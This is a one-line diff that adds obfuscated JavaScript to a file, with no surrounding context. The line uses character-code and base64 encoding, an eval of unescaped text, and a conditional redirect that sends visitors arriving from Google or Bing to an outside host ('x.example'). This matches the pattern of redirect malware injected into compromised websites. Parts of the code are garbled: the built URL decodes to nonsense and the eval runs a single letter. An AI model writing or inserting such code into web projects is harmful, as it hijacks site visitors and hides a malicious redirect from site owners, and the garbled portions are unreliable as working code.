@@ -1,0 +1,1 @@
+location.replace(String.fromCharCode(104,116,116,112)+atob("aHR0cA=="));eval(unescape("%61"));if(/google|bing/i.test(document.referrer))top.location="//x.example"
